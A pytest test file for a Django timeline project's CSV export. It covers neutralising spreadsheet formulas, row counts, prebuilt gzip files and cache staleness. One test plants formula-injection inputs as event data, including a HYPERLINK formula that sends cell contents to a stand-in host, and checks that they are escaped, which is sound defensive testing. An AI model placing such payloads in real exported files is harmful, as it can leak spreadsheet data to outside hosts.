"""The CSV export: cells no spreadsheet runs as formulas, a row count sent before the rows,
and the whole published record as a prebuilt file that is never stale."""

import csv
import datetime
import gzip
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from tests.factories import make_actor, make_event, make_place, make_source
from timeline import exports
from timeline.models import Event

pytestmark = pytest.mark.django_db

FULL = reverse("timeline:events-csv")


def body(response) -> str:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return content.decode()


def rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(body(response))))


# ---------------------------------------------------------------- formulas


@pytest.mark.parametrize("params", [{"kind": "meeting"}, {}], ids=["filtered", "full"])
def test_no_text_cell_starts_a_formula(client, params):
    make_event(
        slug="formulas",
        title='=HYPERLINK("https://example.org/?"&A1, "Click")',
        summary="+1 and more",
        actors=[make_actor(name="@SUM(A1:A9)")],
        places=[make_place(name="-2+3")],
        sources=[make_source(outlet="\tTabbed outlet"), make_source(outlet="\rReturned outlet")],
        date_start=datetime.date(2020, 1, 1),
    )
    (row,) = rows(client.get(FULL, params))
    assert row["title"] == '\'=HYPERLINK("https://example.org/?"&A1, "Click")'
    assert row["summary"] == "'+1 and more"
    assert row["actors"] == "'@SUM(A1:A9) (participant)"
    assert row["places"] == "'-2+3"
    assert row["outlets"][0] == "'"  # the cell as a whole
    assert sorted(row["outlets"][1:].split("; ")) == ["\tTabbed outlet", "\rReturned outlet"]
    # Numbers and dates are not text: left as they are.
    assert row["statements"] == "0"
    assert row["date_start"] == "2020-01-01"
    assert row["slug"] == "formulas"


def test_the_writer_neutralises_text_only():
    line = exports.SafeWriter(exports.Echo()).writerow(["=1+1", "-3", -3, 0.5, "ok", "a=b"])
    assert line == "'=1+1,'-3,-3,0.5,ok,a=b\r\n"


# ---------------------------------------------------------------- the count before the rows


@pytest.mark.parametrize("params", [{"kind": "meeting"}, {}], ids=["filtered", "full"])
def test_the_row_count_comes_before_the_rows_and_equals_them(client, params):
    for day in range(1, 4):
        make_event(date_start=datetime.date(2021, 1, day), kind="meeting")
    make_event(date_start=datetime.date(2021, 2, 1), kind="talks")
    make_event(publication=Event.Publication.DRAFT, kind="meeting")
    for _ in range(2):  # the full export streamed while it is built, then its file
        response = client.get(FULL, params)
        assert response.status_code == 200
        assert int(response["X-Total-Count"]) == len(rows(response)) == (3 if params else 4)


def test_the_rows_come_in_chronological_order_across_chunks(client, monkeypatch):
    monkeypatch.setattr(exports, "CHUNK_SIZE", 2)
    for day in (5, 1, 3, 2, 4):
        make_event(slug=f"day-{day}", date_start=datetime.date(2022, 3, day))
    slugs = [row["slug"] for row in rows(client.get(FULL, {"from": "2022"}))]
    assert slugs == [f"day-{day}" for day in range(1, 6)]


# ---------------------------------------------------------------- the prebuilt file


def test_the_full_export_is_served_as_a_file_with_its_length_and_validators(client):
    make_event(title="Talks in Brussels")
    streamed = client.get(FULL)  # no file yet: streamed, and written as it goes
    assert streamed.streaming
    assert "Content-Length" not in streamed
    text = body(streamed)
    served = client.get(FULL)
    assert served.status_code == 200
    assert served["Content-Type"] == "text/csv; charset=utf-8"
    assert served["Content-Disposition"] == 'attachment; filename="karabakh-timeline-events.csv"'
    assert body(served) == text
    assert int(served["Content-Length"]) == len(text.encode())
    assert served["ETag"]
    assert served["Last-Modified"]
    assert "Content-Encoding" not in served  # not compressed on the fly, which loses its length
    again = client.get(FULL, headers={"If-None-Match": served["ETag"]})
    assert again.status_code == 304
    since = client.get(FULL, headers={"If-Modified-Since": served["Last-Modified"]})
    assert since.status_code == 304


def test_the_full_export_comes_compressed_with_its_own_length_to_who_accepts_gzip(client):
    make_event(title="Talks in Brussels")
    text = body(client.get(FULL))  # streamed, and written as it goes
    plain = client.get(FULL)
    packed = client.get(FULL, headers={"Accept-Encoding": "gzip, deflate, br"})
    assert "Accept-Encoding" in plain["Vary"]
    assert_the_gzip_copy_of(plain, text, packed)


def assert_the_gzip_copy_of(plain, text: str, packed):
    """``packed`` is the prebuilt file ``plain`` (whose text is ``text``) as its gzip
    copy: compressed, with its own length and ETag, and the same rows."""
    assert packed["Content-Encoding"] == "gzip"
    assert "Accept-Encoding" in packed["Vary"]
    content = b"".join(packed.streaming_content)
    assert int(packed["Content-Length"]) == len(content)
    assert gzip.decompress(content).decode() == text
    assert packed["ETag"] != plain["ETag"]
    assert packed["X-Total-Count"] == plain["X-Total-Count"]


def test_a_filtered_export_is_compressed(client):
    make_event(kind="meeting")
    response = client.get(FULL, {"kind": "meeting"}, headers={"Accept-Encoding": "gzip"})
    assert response["Content-Encoding"] == "gzip"


def test_a_published_event_is_in_the_full_export_at_once(client, editor_client):
    make_event(title="Already there")
    client.get(FULL).getvalue()
    assert client.get(FULL).has_header("Content-Length")  # the file
    draft = make_event(title="Just published", publication=Event.Publication.DRAFT)
    draft.publication = Event.Publication.PUBLISHED
    draft.save()
    assert "Just published" in body(client.get(FULL))


def test_a_change_marks_the_file_stale_once_more_when_it_commits(
    django_capture_on_commit_callbacks,
):
    with django_capture_on_commit_callbacks() as callbacks:
        event = make_event()
        event.title = "Renamed"
        event.save()
        event.places.set([make_place()])
    # Once, however many changes (the page cache and the ready counts have their own).
    assert [callback for callback in callbacks if callback is exports.mark_stale] == [
        exports.mark_stale
    ]
    before = exports.current_version()
    exports.mark_stale()
    assert exports.current_version() != before


def test_a_file_read_before_a_change_is_not_served_after_it(client, rf):
    make_event(title="Old title")
    version = exports.current_version()
    ids = exports.matching_ids(Event.objects.published())
    build = exports._written(
        exports.EVENTS, exports.csv_lines(rf.get("/"), ids, "default"), version
    )
    assert b"Old title" in next(build) + next(build)  # the header and the one chunk: all read
    Event.objects.update(title="New title")  # a change (without signals)...
    exports.mark_stale()  # ...and its commit, before the build is done
    for _ in build:
        pass
    # Not published: a change came meanwhile.
    assert exports._prebuilt(exports.EVENTS, version) is None
    assert "New title" in body(client.get(FULL))


def test_only_one_process_builds_the_file_the_others_stream(client):
    make_event()
    with exports._build_lock(exports.EVENTS) as building:
        assert building
        response = client.get(FULL)
        assert response.streaming
        assert "Content-Length" not in response
        body(response)
    assert exports._prebuilt(exports.EVENTS, exports.current_version()) is None
    client.get(FULL).getvalue()
    assert exports._prebuilt(exports.EVENTS, exports.current_version()) is not None


def test_a_reader_who_leaves_half_way_leaves_no_file(client, monkeypatch):
    monkeypatch.setattr(exports, "CHUNK_SIZE", 1)
    for day in range(1, 4):
        make_event(date_start=datetime.date(2021, 1, day))
    response = client.get(FULL)
    pieces = iter(response.streaming_content)
    next(pieces)
    response.close()
    assert exports._prebuilt(exports.EVENTS, exports.current_version()) is None
    assert not list(exports.exports_root().glob(".events-*"))


# ---------------------------------------------------------------- filtered, from the file


def test_a_filtered_export_is_cut_from_the_up_to_date_file(client):
    for day in range(1, 6):
        make_event(kind="meeting" if day % 2 else "talks", date_start=datetime.date(2021, 1, day))
    generated = body(client.get(FULL, {"kind": "meeting"}))  # no file yet: rows read
    client.get(FULL).getvalue()  # the file of the whole record, built
    with CaptureQueriesContext(connection) as captured:
        cut = body(client.get(FULL, {"kind": "meeting"}))
    assert cut == generated
    assert len(rows(client.get(FULL, {"kind": "meeting"}))) == 3
    assert not [q for q in captured if "timeline_eventactor" in q["sql"]]  # no row read


def test_a_filtered_export_reads_rows_afresh_when_the_file_is_stale(client, monkeypatch):
    builds = []
    monkeypatch.setattr(exports, "_build_in_background", lambda kind, _: builds.append(kind))
    make_event(title="First", kind="meeting")
    client.get(FULL).getvalue()
    make_event(title="Second", kind="meeting")  # a change: the file is stale
    text = body(client.get(FULL, {"kind": "meeting"}))
    assert "First" in text
    assert "Second" in text
    assert builds == [exports.EVENTS]  # and the file is rebuilt meanwhile


def test_a_filtered_export_reads_rows_afresh_for_an_event_the_file_lacks(client, monkeypatch):
    make_event(title="First", kind="meeting", date_start=datetime.date(2021, 1, 1))
    client.get(FULL).getvalue()
    monkeypatch.setattr(exports, "mark_stale", lambda: None)  # a change the file missed
    make_event(title="Second", kind="meeting", date_start=datetime.date(2021, 1, 2))
    response = client.get(FULL, {"kind": "meeting"})
    assert [row["title"] for row in rows(response)] == ["First", "Second"]
    assert response["X-Total-Count"] == "2"
